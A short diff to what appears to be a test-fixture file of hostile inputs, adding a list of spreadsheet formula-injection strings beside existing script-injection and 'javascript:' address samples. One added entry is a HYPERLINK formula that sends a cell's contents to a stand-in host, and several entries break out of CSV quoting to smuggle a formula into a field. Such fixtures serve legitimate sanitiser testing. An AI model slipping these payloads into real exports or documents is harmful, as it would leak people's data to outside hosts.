@@ -67,6 +67,19 @@ export const HOSTILE_WORDS: string[] = [
   '＜script＞alert(1)＜/script＞',
 ]
 
+/** What a spreadsheet would run, in every way a cell can begin with it. */
+export const FORMULAS: string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '＝1+1',
+  '＠SUM(1+1)',
+  '=HYPERLINK("//stranger.invalid/?"&A1,"x")',
+  '","=1+1',
+  'x"\r\n"=1+1',
+]
+
 /** Addresses that must not come to stand in any `href`. */
 export const HOSTILE_ADDRESSES: string[] = [
   'javascript:alert(1)',
